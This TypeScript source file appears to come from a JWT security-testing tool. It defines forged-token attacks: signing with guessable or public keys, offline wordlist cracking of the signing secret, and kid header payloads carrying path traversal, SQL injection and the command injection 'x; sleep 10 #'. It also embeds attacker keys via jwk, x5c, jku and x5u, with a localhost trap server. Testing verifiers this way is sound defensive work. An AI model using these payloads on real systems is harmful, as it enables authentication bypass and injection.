import { generateKeyPairSync, randomBytes, sign as signWithKey } from 'node:crypto';
import { createServer } from 'node:http';
import type { Attack } from '../attack.ts';
import type { AttackSession } from '../attack-session.ts';
import { present } from '../carriers.ts';
import {
  type AttackDefaults,
  customAttacks,
  judgeForSession,
  tokenAttacks,
} from '../define-attacks.ts';
import { forge, segment, segmentsOf, sign } from '../forge.ts';
import { badToken, breach } from '../judge-response.ts';
import { say } from '../message.ts';
import type { Outcome } from '../outcome.ts';
import { knownSecrets } from './known-secrets.ts';

const guessable: AttackDefaults = {
  group: 'key',
  lesson: 1,
  advice: 'known-keys',
};

const embedded: AttackDefaults = {
  group: 'key',
  lesson: 4,
  advice: 'embedded-keys',
};

const ownKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const jwk = ownKey.publicKey.export({ format: 'jwk' });
const octets = randomBytes(32).toString('base64url');

/** Tokens signed with a key that is known, can be guessed, or is in the token itself. */
export const key: Attack[] = [
  ...tokenAttacks(guessable, [
    {
      id: 'key-empty',
      token: signedWith(() => ''),
    },
    {
      id: 'key-article',
      token: signedWith(() => 'YOUR_SCRET_STRING'),
    },
    {
      id: 'key-jwt-io',
      token: signedWith(() => 'your-256-bit-secret'),
    },
    {
      id: 'key-secret',
      token: signedWith(() => 'secret'),
    },
    {
      id: 'key-undefined',
      token: signedWith(() => 'undefined'),
    },
    {
      id: 'key-issuer',
      token: signedWith(({ claims }) => String(claims.iss)),
    },
    {
      id: 'key-public',
      token: signedWith(() => ownKey.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
    },
  ]),
  ...customAttacks(guessable, [
    {
      id: 'key-known',
      run: guessSecret,
    },
  ]),

  ...tokenAttacks(embedded, [
    {
      id: 'key-kid-empty-file',
      token: ({ claims }) => forge(claims, '', { header: withKid('../../../../dev/null') }),
    },
    {
      id: 'key-kid-sql',
      token: ({ claims }) => forge(claims, '1', { header: withKid("x' UNION SELECT '1';--") }),
    },
    {
      id: 'key-kid-command',
      token: ({ claims }) => forge(claims, '', { header: withKid('x; sleep 10 #') }),
    },
    {
      id: 'key-kid-prototype',
      token: ({ claims }) => forge(claims, '[object Object]', { header: withKid('__proto__') }),
    },
    {
      id: 'key-jwk-oct',
      token: ({ claims }) => {
        const embedded = { kty: 'oct', k: Buffer.from(octets).toString('base64url') };
        return forge(claims, octets, { header: { typ: 'JWT', alg: 'HS256', jwk: embedded } });
      },
    },
    {
      id: 'key-jwk-public',
      token: (session) => signedByOwnKey(session, { jwk }),
    },
    {
      id: 'key-x5c',
      token: (session) =>
        signedByOwnKey(session, {
          x5c: [ownKey.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
        }),
    },
  ]),
  ...customAttacks(
    embedded,
    (['jku', 'x5u'] as const).map((member) => ({
      id: `key-${member}` as const,
      run: (session: AttackSession) => checkKeyRequests(session, member),
    })),
  ),
];

/** Adds a claim: otherwise a token with the right key would equal the valid token. */
function signedWith(secret: (session: AttackSession) => string) {
  return (session: AttackSession): string =>
    forge({ ...session.claims, forged: true }, secret(session), { header: session.header });
}

function withKid(kid: string) {
  return { typ: 'JWT', alg: 'HS256', kid };
}

function signedByOwnKey({ claims }: AttackSession, members: object): string {
  const text = `${segment({ typ: 'JWT', alg: 'ES256', ...members })}.${segment(claims)}`;
  const key = { key: ownKey.privateKey, dsaEncoding: 'ieee-p1363' } as const;
  return `${text}.${signWithKey('sha256', Buffer.from(text), key).toString('base64url')}`;
}

/** Searches a list of words for the secret, offline with a valid token. No server can count these attempts. */
async function guessSecret(session: AttackSession): Promise<Outcome> {
  const [header, claims, signature] = segmentsOf(session.token);
  const secret = knownSecrets.find((word) => sign(`${header}.${claims}`, word) === signature);
  if (secret === undefined) return { held: true };
  const forged = signedWith(() => secret)(session);
  const response = (await present(session, forged)) ?? session.loginResponse;
  return breach(response, say('attack.expected.unknown-secret'), true);
}

/** Names a local server in a token, and counts the requests to it. */
async function checkKeyRequests(session: AttackSession, member: string): Promise<Outcome> {
  let visits = 0;
  const trap = createServer((_request, response) => {
    visits += 1;
    response.end(JSON.stringify({ keys: [{ ...jwk, alg: 'ES256', use: 'sig' }] }));
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const place = trap.address();
  const port = typeof place === 'object' && place !== null ? place.port : 0;
  const token = signedByOwnKey(session, { [member]: `http://127.0.0.1:${port}/keys.json` });
  const response = (await present(session, token)) ?? session.loginResponse;
  trap.close();
  trap.closeAllConnections();
  if (visits > 0) return breach(response, say('attack.expected.no-fetch', { member }), true);
  return judgeForSession(session, response, [badToken]);
}
